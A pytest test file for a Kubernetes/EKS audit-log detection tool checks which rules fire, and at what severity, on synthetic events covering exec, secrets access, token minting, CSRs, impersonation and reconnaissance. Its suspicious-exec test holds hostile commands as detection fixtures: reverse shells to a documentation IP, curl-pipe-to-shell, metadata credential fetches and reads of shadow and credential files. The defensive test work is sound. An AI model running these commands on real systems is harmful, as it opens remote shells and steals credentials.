"""Access rules (eksight/core/rules/access.py): hand-made positives and negatives per rule, the real labelled fixtures
(Falco k8s-audit traces, Panther's EKS rule tests) and the dev-scenarios cluster.

Every event goes through the real pipeline: JSON bytes → `Detector` (parse, once-per-request, principal) →
`RuleEngine` (index, allow-lists, thresholds) → findings, so a test fails if any of those stages drops it.
"""

from __future__ import annotations

import csv
import gzip
import itertools
import json
import uuid
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from eksight.core.decode import RawEvent, SourceContext
from eksight.core.detector import Detector
from eksight.core.findings import Finding, Severity
from eksight.core.rules import access, tampering
from eksight.core.rules.engine import RuleEngine
from eksight.core.rules.networks import NO_NETWORKS, OperatorNetworks

DATASETS = Path(__file__).resolve().parents[4] / "shared" / "datasets"
RULES = access.RULES
LOW, MEDIUM, HIGH, CRITICAL = Severity.LOW, Severity.MEDIUM, Severity.HIGH, Severity.CRITICAL

# --- helpers: identities, events, detection -------------------------------------------------------------------

ACCOUNT = "111122223333"
SSO = {
    "username": f"arn:aws:sts::{ACCOUNT}:assumed-role/AWSReservedSSO_Dev_0123456789abcdef/alice@example.com",
    "uid": f"aws-iam-authenticator:{ACCOUNT}:AROAEXAMPLEEXAMPLE",
    "groups": ["developers", "system:authenticated"],
    "extra": {
        "arn": [f"arn:aws:sts::{ACCOUNT}:assumed-role/AWSReservedSSO_Dev_0123456789abcdef/alice@example.com"],
        "canonicalArn": [f"arn:aws:iam::{ACCOUNT}:role/AWSReservedSSO_Dev_0123456789abcdef"],
        "sessionName": ["alice@example.com"],
        "accessKeyId": ["ASIAEXAMPLEEXAMPLE00"],
    },
}
ADMIN_MASTERS = {
    "username": "kubernetes-admin",
    "uid": f"aws-iam-authenticator:{ACCOUNT}:AROAADMINEXAMPLE",
    "groups": ["system:masters", "system:authenticated"],
    "extra": {"canonicalArn": [f"arn:aws:iam::{ACCOUNT}:role/terraform-admin"], "sessionName": ["tf"]},
}
NODE_NAME = "ip-10-0-1-5.eu-west-1.compute.internal"
NODE = {
    "username": f"system:node:{NODE_NAME}",
    "uid": f"aws-iam-authenticator:{ACCOUNT}:AROANODEEXAMPLE",
    "groups": ["system:nodes", "system:authenticated"],
    "extra": {"canonicalArn": [f"arn:aws:iam::{ACCOUNT}:role/NodeInstanceRole"], "sessionName": ["i-0abc123"]},
}
ANON = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}
EKS_ADDON = {"username": "eks:addon-manager", "groups": ["system:authenticated"]}
EKS_CERTS = {"username": "eks:certificate-controller", "groups": ["system:authenticated"]}
KUBECTL = "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350"
KUBELET = "kubelet/v1.30.9-eks-6ac2a7a (linux/amd64) kubernetes/6ac2a7a"
BASE_TIME = 1_726_000_000.0  # 2024-09-10
_clock = itertools.count()


def sa(namespace: str, name: str, pod: str = "") -> dict[str, Any]:
    user: dict[str, Any] = {
        "username": f"system:serviceaccount:{namespace}:{name}",
        "groups": ["system:serviceaccounts", f"system:serviceaccounts:{namespace}", "system:authenticated"],
    }
    if pod:
        user["extra"] = {
            "authentication.kubernetes.io/pod-name": [pod],
            "authentication.kubernetes.io/pod-uid": ["5b9488ae-5563-42aa-850b-b0d82edb3e22"],
        }
    return user


def iso(epoch: float) -> str:
    from datetime import UTC, datetime

    return datetime.fromtimestamp(epoch, UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def make_event(
    *,
    user: dict[str, Any] | None = None,
    verb: str = "get",
    resource: str = "pods",
    namespace: str = "",
    name: str = "",
    subresource: str = "",
    api_group: str = "",
    uri: str | None = None,
    query: str = "",
    code: int = 200,
    decision: str | None = None,
    ip: str = "10.0.3.7",
    ua: str = KUBECTL,
    request: Any = None,
    response: Any = None,
    impersonated: dict[str, Any] | None = None,
    at: float | None = None,
    stage: str = "ResponseComplete",
    audit_id: str | None = None,
    reason: str = "",
    message: str = "",
    uid: str = "",
) -> dict[str, Any]:
    """One EKS-shaped audit event. `resource=""` makes a non-resource request (pass `uri`)."""
    if uri is None:
        prefix = f"/apis/{api_group}/v1" if api_group else "/api/v1"
        path = prefix + (f"/namespaces/{namespace}" if namespace else "") + f"/{resource}"
        path += (f"/{name}" if name else "") + (f"/{subresource}" if subresource else "")
        uri = path + (f"?{query}" if query else "")
    at = BASE_TIME + next(_clock) if at is None else at
    decision = decision or ("forbid" if code == 403 else "allow")
    event: dict[str, Any] = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "Request" if request else "Metadata",
        "auditID": audit_id or str(uuid.uuid4()),
        "stage": stage,
        "requestURI": uri,
        "verb": verb,
        "user": user or SSO,
        "sourceIPs": [ip],
        "userAgent": ua,
        "responseStatus": {"metadata": {}, "code": code, **({"message": message} if message else {})},
        "requestReceivedTimestamp": iso(at),
        "stageTimestamp": iso(at + 0.01),
        "annotations": {"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": reason},
    }
    if resource:
        ref = {"resource": resource, "apiVersion": "v1"}
        for key, value in (
            ("namespace", namespace),
            ("name", name),
            ("subresource", subresource),
            ("apiGroup", api_group),
            ("uid", uid),
        ):
            if value:
                ref[key] = value
        event["objectRef"] = ref
    if request is not None:
        event["requestObject"] = request
    if response is not None:
        event["responseObject"] = response
        event["level"] = "RequestResponse"
    if impersonated is not None:
        event["impersonatedUser"] = impersonated
    return event


def exec_event(
    command: list[str] | None,
    *,
    namespace: str = "shop",
    pod: str = "web-7d4b9-x2x9q",
    subresource: str = "exec",
    user: dict[str, Any] | None = None,
    code: int = 101,
    container: str = "web",
    **kwargs: Any,
) -> dict[str, Any]:
    from urllib.parse import urlencode

    params = [("command", c) for c in command or []] + [
        ("container", container),
        ("stdin", "true"),
        ("stdout", "true"),
        ("tty", "true"),
    ]
    return make_event(
        user=user,
        verb="create",
        resource="pods",
        namespace=namespace,
        name=pod,
        subresource=subresource,
        query=urlencode(params),
        code=code,
        stage="ResponseStarted",
        **kwargs,
    )


def records(events: list[dict[str, Any] | bytes], log_time_ms: int | None = None) -> list[Any]:
    context = SourceContext(cluster="test-cluster", account=ACCOUNT, region="eu-west-1")
    return [
        RawEvent(e if isinstance(e, bytes) else json.dumps(e).encode(), context, "test", i, log_time_ms)
        for i, e in enumerate(events)
    ]


def detect(
    *events: dict[str, Any] | bytes,
    rules: list[Any] | None = None,
    log_time_ms: int | None = None,
    networks: OperatorNetworks = NO_NETWORKS,
) -> list[Finding]:
    engine = RuleEngine(RULES if rules is None else rules, networks=networks)
    detector = Detector(engine).run(records(list(events), log_time_ms))
    assert not engine.errors, f"rule errors: {dict(engine.errors)}"
    return detector.findings()


def of(findings: list[Finding], rule_id: str) -> list[Finding]:
    return [f for f in findings if f.rule_id == rule_id]


def one(findings: list[Finding], rule_id: str) -> Finding:
    matching = of(findings, rule_id)
    assert len(matching) == 1, f"expected one {rule_id} finding, got {[(f.rule_id, f.severity) for f in findings]}"
    return matching[0]


def severity_of(event: dict[str, Any], rule_id: str) -> Severity | None:
    matching = of(detect(event), rule_id)
    return matching[0].severity if matching else None


# --- the rule set itself ------------------------------------------------------------------------------------


def test_rule_metadata_is_complete_and_in_range() -> None:
    ids = [rule.id for rule in RULES]
    assert len(ids) == len(set(ids))
    for rule in RULES:
        number = int(rule.id.split("-")[1])
        assert 100 <= number <= 199, rule.id
        assert rule.title and rule.description and rule.remediation and rule.catalog, rule.id
        tactic, _, name = rule.type.partition(":Kubernetes/")
        assert tactic and name, rule.type
        assert all(m.startswith("T1") for m in rule.mitre), rule.id
    covered = {idea for rule in RULES for idea in rule.catalog}
    assert covered >= {1, 9, 10, 11, 12, 13, 30, 31, 32, 33, 34, 35, 36, 37, 38, 39, 40, 45, 48}


# --- #1 anonymous -------------------------------------------------------------------------------------------


def test_anonymous_resource_read_is_high_and_names_the_binding() -> None:
    event = make_event(
        user=ANON,
        verb="list",
        resource="pods",
        ip="93.184.216.34",
        ua="python-requests/2.31.0",
        reason='RBAC: allowed by ClusterRoleBinding "debug-view" of ClusterRole "view"',
    )
    finding = one(detect(event), "EKS-100")
    assert finding.severity == HIGH
    assert "debug-view" in finding.description and "93.184.216.34" in finding.description
    assert finding.evidence == [event["auditID"]]


@pytest.mark.parametrize(
    ("path", "ip", "expected"),
    [
        ("/version", "93.184.216.34", LOW),  # public info from the internet: fingerprinting
        ("/apis", "10.0.0.9", MEDIUM),  # discovery is not public by default
        ("/healthz", "93.184.216.34", None),
        ("/readyz/etcd", "93.184.216.34", None),
        ("/livez", "10.0.0.9", None),
        ("/version", "10.0.0.9", None),  # in-VPC monitor / ELB health checker
    ],
)
def test_anonymous_non_resource_urls(path: str, ip: str, expected: Severity | None) -> None:
    event = make_event(user=ANON, resource="", uri=path, ip=ip, ua="ELB-HealthChecker/2.0")
    assert severity_of(event, "EKS-100") == expected


def test_anonymous_denied_or_authenticated_reads_are_not_anonymous_access() -> None:
    denied = make_event(user=ANON, verb="list", resource="secrets", code=403, ip="93.184.216.34")
    authenticated = make_event(verb="list", resource="pods", namespace="shop", ip="93.184.216.34")
    findings = detect(denied, authenticated)
    assert not of(findings, "EKS-100") and not of(findings, "EKS-101")


@pytest.mark.parametrize(
    "event",
    [
        make_event(user=ANON, verb="create", resource="namespaces", code=201),
        exec_event(["id"], user=ANON),
    ],
)
def test_anonymous_write_or_exec_is_critical(event: dict[str, Any]) -> None:
    findings = detect(event)
    assert one(findings, "EKS-101").severity == CRITICAL
    assert not of(findings, "EKS-100")


def test_anonymous_read_is_not_a_write() -> None:
    assert severity_of(make_event(user=ANON, verb="get", resource="pods", namespace="a", name="b"), "EKS-101") is None


# --- #9-#13 exec family ------------------------------------------------------------------------------------


def exec_findings(event: dict[str, Any]) -> dict[str, Severity]:
    return {
        f.rule_id: f.severity
        for f in detect(event)
        if f.rule_id in {"EKS-110", "EKS-111", "EKS-112", "EKS-113", "EKS-114"}
    }


def test_plain_exec_is_low_and_names_command_and_pod() -> None:
    event = exec_event(["sh"])
    finding = one(detect(event), "EKS-110")
    assert finding.severity == LOW
    assert "'sh'" in finding.description and "shop/web-7d4b9-x2x9q" in finding.description
    assert finding.details["command"] == ["sh"]


def test_attach_is_reported_as_exec_in_pod() -> None:
    assert exec_findings(exec_event(None, subresource="attach")) == {"EKS-110": LOW}


def test_denied_exec_is_not_an_exec() -> None:
    assert "EKS-110" not in exec_findings(exec_event(["sh"], code=403))


def test_exec_into_kube_system_is_medium_and_exclusive() -> None:
    assert exec_findings(exec_event(["bash"], namespace="kube-system", pod="aws-node-8k2lp")) == {"EKS-111": MEDIUM}


def test_kube_system_service_account_in_its_own_namespace_is_lowered() -> None:
    event = exec_event(
        ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
        namespace="kube-system",
        user=sa("kube-system", "kube-proxy"),
    )
    assert exec_findings(event) == {"EKS-112": LOW}


def test_exec_in_app_namespace_is_not_kube_system() -> None:
    assert "EKS-111" not in exec_findings(exec_event(["bash"]))


@pytest.mark.parametrize(
    ("command", "expected", "label"),
    [
        (["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], HIGH, "service-account token read"),
        (["cat", "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"], HIGH, "service-account token read"),
        (["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"], HIGH, "reverse shell"),
        (["nc", "-e", "/bin/sh", "203.0.113.9", "4444"], HIGH, "reverse shell"),
        (["sh", "-c", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f"], HIGH, "reverse shell"),
        (
            ["curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
            HIGH,
            "cloud instance metadata access",
        ),
        (["cat", "/etc/shadow"], HIGH, "sensitive file access"),
        (["cat", "/root/.aws/credentials"], HIGH, "sensitive file access"),
        (["ls", "/var/lib/kubelet/pki"], HIGH, "sensitive file access"),
        (["chroot", "/host", "/bin/sh"], HIGH, "container escape"),
        (["sh", "-c", "curl -s https://203.0.113.9/x.sh | sh"], HIGH, "download and execute"),
        (["curl", "-s", "localhost:8080/health"], MEDIUM, "curl/wget"),
    ],
)
def test_suspicious_exec_commands(command: list[str], expected: Severity, label: str) -> None:
    event = exec_event(command)
    finding = one(detect(event), "EKS-112")
    assert finding.severity == expected
    assert label in finding.details["indicators"]
    assert f": {label}" in finding.description  # the detail says why ...
    assert f"running {' '.join(command)!r}" in finding.description  # ... and quotes the command
    assert exec_findings(event) == {"EKS-112": expected}  # and nothing else fires for the same exec


@pytest.mark.parametrize("command", [["ls", "-la", "/app"], ["printenv"], ["python", "manage.py", "shell"]])
def test_ordinary_commands_are_not_suspicious(command: list[str]) -> None:
    assert exec_findings(exec_event(command)) == {"EKS-110": LOW}


def test_kubectl_cp_from_pod() -> None:
    event = exec_event(["tar", "cf", "-", "/app/data/export.csv"])
    finding = one(detect(event), "EKS-113")
    assert finding.severity == MEDIUM and "/app/data/export.csv" in finding.description
    assert exec_findings(event) == {"EKS-113": MEDIUM}


def test_kubectl_cp_into_pod_is_not_a_copy_out() -> None:
    assert exec_findings(exec_event(["tar", "xmf", "-", "-C", "/tmp"])) == {"EKS-110": LOW}


def test_copying_the_token_directory_is_token_theft_not_just_cp() -> None:
    event = exec_event(["tar", "czf", "-", "/var/run/secrets/kubernetes.io/serviceaccount"])
    assert exec_findings(event) == {"EKS-112": HIGH}


@pytest.mark.parametrize(("namespace", "expected"), [("shop", LOW), ("kube-system", MEDIUM)])
def test_port_forward(namespace: str, expected: Severity) -> None:
    event = exec_event(None, subresource="portforward", namespace=namespace)
    assert exec_findings(event) == {"EKS-114": expected}


def test_exec_is_not_port_forward() -> None:
    assert "EKS-114" not in exec_findings(exec_event(["sh"]))


def test_streaming_request_is_counted_once() -> None:
    started = exec_event(["sh"])
    complete = dict(started, stage="ResponseComplete")
    assert of(detect(started, complete), "EKS-110")[0].count == 1


# --- #30-#32 secrets --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("event", "expected"),
    [
        (make_event(verb="list", resource="secrets", query="limit=500"), HIGH),
        (make_event(verb="watch", resource="secrets", query="watch=true"), HIGH),
        (make_event(verb="list", resource="secrets", query="labelSelector=owner%3Dhelm", ua="Helm/3.14.2"), LOW),
        (make_event(verb="list", resource="secrets", query="labelSelector=app%21%3Dx"), HIGH),  # != narrows nothing
        (make_event(user=sa("ci", "runner", pod="runner-1"), verb="list", resource="secrets", ua="runner/1.0"), LOW),
        (make_event(user=sa("ci", "runner", pod="runner-1"), verb="list", resource="secrets", ua=KUBECTL), HIGH),
        (
            make_event(
                user=sa("argocd", "argocd-application-controller"),
                verb="watch",
                resource="secrets",
                ua="argocd-application-controller/v2.10.4",
            ),
            None,
        ),
        (
            make_event(
                user=sa("argocd", "argocd-application-controller"),
                verb="list",
                resource="secrets",
                query="limit=500&resourceVersion=0",
                ua="argocd-application-controller/v2.10.4",
            ),
            None,
        ),
        (make_event(verb="list", resource="secrets", namespace="shop"), None),
        (make_event(user=EKS_ADDON, verb="list", resource="secrets"), None),
    ],
)
def test_secrets_listed_cluster_wide(event: dict[str, Any], expected: Severity | None) -> None:
    assert severity_of(event, "EKS-120") == expected


@pytest.mark.parametrize(
    ("event", "expected"),
    [
        (make_event(verb="list", resource="secrets", namespace="kube-system"), MEDIUM),
        (make_event(verb="list", resource="secrets", namespace="kube-system", query="labelSelector=owner%3Dhelm"), LOW),
        (make_event(verb="list", resource="secrets", namespace="shop"), None),
        (make_event(verb="get", resource="secrets", namespace="kube-system", name="x"), None),
    ],
)
def test_kube_system_secrets_listed(event: dict[str, Any], expected: Severity | None) -> None:
    assert severity_of(event, "EKS-121") == expected


@pytest.mark.parametrize(
    ("user", "ua", "expected"),
    [
        (SSO, "python-requests/2.31.0", MEDIUM),
        (SSO, "curl/8.4.0", MEDIUM),
        (sa("shop", "web", pod="web-1"), "kube-hunter", HIGH),
        (NODE, "curl/8.4.0", MEDIUM),
        (SSO, KUBECTL, None),
        (sa("shop", "web", pod="web-1"), "Go-http-client/2.0", None),  # ordinary application code in a pod
        (NODE, KUBELET, None),
    ],
)
def test_secret_read_with_suspicious_user_agent(user: dict[str, Any], ua: str, expected: Severity | None) -> None:
    event = make_event(
        user=user,
        verb="get",
        resource="secrets",
        namespace="shop",
        name="db",
        ua=ua,
        ip="10.0.1.5" if user is NODE else "10.0.3.7",
    )
    assert severity_of(event, "EKS-122") == expected


def secret_gets(
    count: int,
    *,
    distinct: bool = True,
    step: float = 20.0,
    user: dict[str, Any] | None = None,
    code: int = 200,
    namespace: str = "shop",
) -> list[dict[str, Any]]:
    # each call its own stretch of time, starting on a clock hour: findings are per clock hour of event time, and a
    # burst that straddled an hour (which the shared counter's position alone would decide) would be two findings
    start = (BASE_TIME + 100_000 + next(_clock) * 10_000) // 3600 * 3600 + 60
    return [
        make_event(
            user=user,
            verb="get",
            resource="secrets",
            namespace=namespace,
            name=f"secret-{i if distinct else 0}",
            code=code,
            at=start + i * step,
        )
        for i in range(count)
    ]


def test_bulk_distinct_secret_reads_fire_at_fifteen() -> None:
    events = secret_gets(15)
    finding = one(detect(*events), "EKS-123")
    assert finding.severity == MEDIUM and finding.count == 15
    assert set(finding.evidence) == {e["auditID"] for e in events}


@pytest.mark.parametrize(
    "events",
    [
        secret_gets(14),  # below the threshold
        secret_gets(40, distinct=False),  # one secret read again and again
        secret_gets(15, step=600),  # 15 reads spread over 2.5 h
        secret_gets(20, user=NODE),  # kubelets fetch their pods' secrets
    ],
)
def test_bulk_secret_reads_negatives(events: list[dict[str, Any]]) -> None:
    assert not of(detect(*events), "EKS-123")


def test_denied_secret_burst_fires_at_twenty() -> None:
    events = secret_gets(20, step=30, user=sa("shop", "web"), code=403)
    assert one(detect(*events), "EKS-124").count == 20
    assert not of(detect(*secret_gets(19, step=30, user=sa("shop", "web"), code=403)), "EKS-124")


def test_not_found_secrets_are_not_denials() -> None:
    assert not of(detect(*secret_gets(25, step=10, code=404)), "EKS-124")


def test_denied_cluster_wide_secret_list_fires_at_three() -> None:
    def attempts(n: int) -> list[dict[str, Any]]:
        start = BASE_TIME + 200_000 + next(_clock) * 10_000
        return [
            make_event(
                user=sa("shop", "web", pod="web-1"), verb="list", resource="secrets", code=403, at=start + i * 60
            )
            for i in range(n)
        ]

    assert one(detect(*attempts(3)), "EKS-125").severity == MEDIUM
    assert not of(detect(*attempts(2)), "EKS-125")


def test_secret_written_by_a_person_is_low() -> None:
    finding = one(detect(make_event(verb="update", resource="secrets", namespace="shop", name="db")), "EKS-126")
    assert finding.severity == LOW and "shop/db updated" in finding.description


def test_long_lived_token_secret_is_medium() -> None:
    body = {
        "kind": "Secret",
        "apiVersion": "v1",
        "type": "kubernetes.io/service-account-token",
        "metadata": {"name": "admin-token", "annotations": {"kubernetes.io/service-account.name": "admin"}},
    }
    event = make_event(verb="create", resource="secrets", namespace="kube-system", code=201, request=body)
    finding = one(detect(event), "EKS-126")
    assert finding.severity == MEDIUM and "admin" in finding.description


def test_secret_written_by_a_controller_is_not_reported() -> None:
    event = make_event(
        user=sa("cert-manager", "cert-manager"), verb="update", resource="secrets", namespace="shop", name="tls"
    )
    assert severity_of(event, "EKS-126") is None


def configmap(data: Any, verb: str = "create") -> dict[str, Any]:
    body = {
        "kind": "ConfigMap",
        "apiVersion": "v1",
        "metadata": {"name": "app-config", "namespace": "shop"},
        "data": data,
    }
    return make_event(
        verb=verb,
        resource="configmaps",
        namespace="shop",
        name="" if verb == "create" else "app-config",
        code=201,
        request=body,
    )


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        ({"env": "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n"}, HIGH),
        ({"key.pem": "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----\n"}, HIGH),
        ({"app.properties": "db.host=db\ndb_password=hunter2\n"}, MEDIUM),
        ({"config.yaml": "client_secret: 9f8e7d6c5b\n"}, MEDIUM),
        ({"password": "hunter2"}, MEDIUM),
        ({"app.properties": "db_password=${DB_PASSWORD}\n"}, None),  # a placeholder, not a value
        ({"ui.properties": "color.good=purple\nallow.textmode=true\n"}, None),
        ({"password": ""}, None),
        ("not a mapping", None),
    ],
)
def test_configmap_with_credentials(data: Any, expected: Severity | None) -> None:
    assert severity_of(configmap(data), "EKS-127") == expected


def test_configmap_credentials_are_never_copied_into_the_finding() -> None:
    finding = one(detect(configmap({"env": "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\ndb_password=hunter2"})), "EKS-127")
    assert "hunter2" not in finding.description and "AKIAIOSFODNN7EXAMPLE" not in finding.description
    assert "shop/app-config" in finding.description and finding.details["keys"] == ["env"]


# --- #33 TokenRequest -----------------------------------------------------------------------------------------


def token_request(
    user: dict[str, Any],
    namespace: str,
    name: str,
    spec: dict[str, Any] | None = None,
    code: int = 201,
    ua: str = KUBECTL,
    ip: str = "10.0.3.7",
) -> dict[str, Any]:
    body = {"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "spec": spec} if spec else None
    return make_event(
        user=user,
        verb="create",
        resource="serviceaccounts",
        namespace=namespace,
        name=name,
        subresource="token",
        code=code,
        request=body,
        ua=ua,
        ip=ip,
    )


@pytest.mark.parametrize(
    ("event", "expected"),
    [
        (token_request(SSO, "kube-system", "cluster-autoscaler"), MEDIUM),
        (token_request(SSO, "shop", "web"), LOW),
        (token_request(SSO, "shop", "web", {"expirationSeconds": 31_536_000, "audiences": ["https://x"]}), MEDIUM),
        (token_request(sa("ci", "deployer", pod="d-1"), "shop", "web"), MEDIUM),  # minted for another account
        (token_request(NODE, "shop", "web", ua=KUBELET, ip="10.0.1.5"), None),  # kubelets do this all day
        (token_request(SSO, "shop", "web", code=403), None),
    ],
)
def test_service_account_token_minted(event: dict[str, Any], expected: Severity | None) -> None:
    assert severity_of(event, "EKS-130") == expected


def test_token_finding_names_the_account_and_lifetime() -> None:
    event = token_request(SSO, "shop", "web", {"expirationSeconds": 31_536_000})
    description = one(detect(event), "EKS-130").description
    assert "shop/web" in description and "8760 h" in description


# --- #34 identities out of place ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("event", "expected"),
    [
        (make_event(user=sa("shop", "web", pod="web-1"), ip="185.220.101.50", ua=KUBECTL), HIGH),
        (make_event(user=sa("kube-system", "coredns"), ip="185.220.101.50", ua="Go-http-client/2.0"), MEDIUM),
        (make_event(user=sa("kube-system", "coredns"), ip="185.220.101.50", code=403), LOW),
        (make_event(user=NODE, ip="185.220.101.50", ua=KUBECTL), MEDIUM),
        (make_event(user=NODE, ip="185.220.101.50", ua=KUBELET), None),  # public-subnet node
        (make_event(user=sa("kube-system", "coredns"), ip="10.0.27.115"), None),
        (make_event(user=sa("kube-system", "coredns"), ip="100.64.3.9"), None),  # CGNAT / custom networking
        (make_event(user=EKS_ADDON, ip="35.163.244.48", ua="Go-http-client/1.1"), None),
        (make_event(user=SSO, ip="185.220.101.50"), None),
        (make_event(user=sa("kube-system", "coredns"), ip="not-an-ip"), None),
    ],
)
def test_system_identity_from_public_ip(event: dict[str, Any], expected: Severity | None) -> None:
    assert severity_of(event, "EKS-131") == expected


def test_public_ip_finding_is_one_per_identity_and_address() -> None:
    events = [
        make_event(
            user=sa("shop", "web"),
            ip="185.220.101.50",
            verb="get",
            resource="configmaps",
            namespace="shop",
            name=f"cm-{i}",
        )
        for i in range(5)
    ]
    finding = one(detect(*events), "EKS-131")
    assert finding.count == 5 and "185.220.101.50" in finding.description
    assert not of(detect(*events, networks=OperatorNetworks.of(trusted_public=["185.220.101.0/24"])), "EKS-131")


@pytest.mark.parametrize(
    ("user", "ip", "ua", "expected"),
    [
        (NODE, "10.0.7.33", "python-requests/2.31.0", HIGH),
        (NODE, "10.0.7.33", KUBELET, MEDIUM),
        (NODE, "10.0.1.5", KUBELET, None),
        (NODE, "2600:1f18::5", KUBELET, None),
        (dict(NODE, username="system:node:i-0abc123.eu-west-1.compute.internal"), "10.0.7.33", KUBELET, None),
        (SSO, "10.0.7.33", KUBECTL, None),
    ],
)
def test_node_credentials_used_off_node(user: dict[str, Any], ip: str, ua: str, expected: Severity | None) -> None:
    event = make_event(user=user, verb="list", resource="pods", ip=ip, ua=ua)
    assert severity_of(event, "EKS-132") == expected


def test_node_host_ip() -> None:
    assert access.node_host_ip("ip-10-0-1-5.ec2.internal") == "10.0.1.5"
    assert access.node_host_ip("fargate-ip-192-168-3-4.eu-west-1.compute.internal") == "192.168.3.4"
    assert access.node_host_ip("ip-10-0-1-999.ec2.internal") == ""
    assert access.node_host_ip("worker-1") == ""


# --- #35 CSRs -----------------------------------------------------------------------------------------------------


def csr_request(common_name: str, organization: str | None) -> str:
    crypto = pytest.importorskip("cryptography")
    del crypto
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    names = [x509.NameAttribute(NameOID.COMMON_NAME, common_name)]
    if organization:
        names.append(x509.NameAttribute(NameOID.ORGANIZATION_NAME, organization))
    csr = x509.CertificateSigningRequestBuilder().subject_name(x509.Name(names)).sign(key, hashes.SHA256())
    import base64

    return base64.b64encode(csr.public_bytes(serialization.Encoding.PEM)).decode()


def csr_event(
    spec: dict[str, Any] | None, user: dict[str, Any] | None = None, ua: str = KUBECTL, ip: str = "10.0.3.7"
) -> dict[str, Any]:
    body = (
        {
            "kind": "CertificateSigningRequest",
            "apiVersion": "certificates.k8s.io/v1",
            "metadata": {"name": "alice-csr"},
            "spec": spec,
        }
        if spec is not None
        else None
    )
    return make_event(
        user=user,
        verb="create",
        resource="certificatesigningrequests",
        api_group="certificates.k8s.io",
        code=201,
        request=body,
        ua=ua,
        ip=ip,
    )


def test_csr_for_system_masters_is_high() -> None:
    spec = {
        "signerName": "kubernetes.io/kube-apiserver-client",
        "usages": ["client auth"],
        "request": csr_request("backdoor", "system:masters"),
    }
    finding = one(detect(csr_event(spec)), "EKS-133")
    assert finding.severity == HIGH and "system:masters" in finding.description


@pytest.mark.parametrize(
    ("spec", "user", "expected"),
    [
        ({"signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}, SSO, MEDIUM),
        ({"signerName": "kubernetes.io/kubelet-serving", "usages": ["server auth"]}, SSO, LOW),
        (None, SSO, MEDIUM),  # body not logged: signer unknown
        ({"signerName": "kubernetes.io/kube-apiserver-client-kubelet"}, NODE, None),  # kubelet bootstrap / rotation
    ],
)
def test_csr_created(spec: dict[str, Any] | None, user: dict[str, Any], expected: Severity | None) -> None:
    event = csr_event(
        spec, user=user, ua=KUBELET if user is NODE else KUBECTL, ip="10.0.1.5" if user is NODE else "10.0.3.7"
    )
    assert severity_of(event, "EKS-133") == expected


def approval(user: dict[str, Any], condition: str = "Approved") -> dict[str, Any]:
    body = {
        "kind": "CertificateSigningRequest",
        "metadata": {"name": "alice-csr"},
        "spec": {"signerName": "kubernetes.io/kube-apiserver-client"},
        "status": {"conditions": [{"type": condition, "status": "True"}]},
    }
    return make_event(
        user=user,
        verb="update",
        resource="certificatesigningrequests",
        name="alice-csr",
        subresource="approval",
        api_group="certificates.k8s.io",
        request=body,
    )


@pytest.mark.parametrize(
    ("event", "expected"),
    [
        (approval(SSO), MEDIUM),
        (approval(SSO, "Denied"), None),
        (approval(EKS_CERTS), None),
    ],
)
def test_csr_approved(event: dict[str, Any], expected: Severity | None) -> None:
    assert severity_of(event, "EKS-134") == expected


# --- #36 impersonation ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("impersonated", "expected"),
    [
        ({"username": "ops", "groups": ["system:masters"]}, HIGH),
        ({"username": "system:serviceaccount:kube-system:clusterrole-aggregation-controller"}, HIGH),
        ({"username": "system:admin"}, HIGH),
        ({"username": "system:serviceaccount:shop:web"}, LOW),  # as the rule describes: ordinary SA
        ({"username": "bob@example.com", "groups": ["developers"]}, LOW),
        (None, None),
    ],
)
def test_impersonation(impersonated: dict[str, Any] | None, expected: Severity | None) -> None:
    event = make_event(verb="list", resource="secrets", namespace="shop", impersonated=impersonated)
    assert severity_of(event, "EKS-135") == expected


def test_impersonation_detail_names_the_group() -> None:
    event = make_event(
        verb="delete",
        resource="pods",
        namespace="shop",
        name="web",
        impersonated={"username": "ops", "groups": ["system:masters"]},
    )
    assert "system:masters" in one(detect(event), "EKS-135").description


# --- #37-#39 reconnaissance ----------------------------------------------------------------------------------------


def review(user: dict[str, Any], resource: str = "selfsubjectaccessreviews", ua: str = KUBECTL) -> dict[str, Any]:
    return make_event(user=user, verb="create", resource=resource, api_group="authorization.k8s.io", code=201, ua=ua)


@pytest.mark.parametrize(
    ("event", "expected"),
    [
        (review(SSO), LOW),
        (review(SSO, ua="k9s/v0.32.4 (darwin/arm64)"), LOW),
        (review(SSO, ua="curl/8.4.0"), MEDIUM),
        (review(SSO, ua="peirates/1.1"), MEDIUM),
        (review(sa("shop", "web", pod="web-1"), "selfsubjectrulesreviews", ua="Go-http-client/2.0"), MEDIUM),
        (review(sa("shop", "web", pod="web-1"), ua=KUBECTL), MEDIUM),
        (review(sa("monitoring", "prometheus-operator"), ua="PrometheusOperator/0.72"), LOW),
        (review(EKS_ADDON), None),
    ],
)
def test_permission_self_check(event: dict[str, Any], expected: Severity | None) -> None:
    assert severity_of(event, "EKS-140") == expected


DISCOVERY = [
    "pods",
    "services",
    "deployments",
    "daemonsets",
    "statefulsets",
    "replicasets",
    "jobs",
    "cronjobs",
    "configmaps",
    "secrets",
    "serviceaccounts",
    "roles",
    "rolebindings",
    "clusterroles",
    "clusterrolebindings",
    "nodes",
    "namespaces",
    "ingresses",
    "networkpolicies",
    "persistentvolumes",
]


def lists(
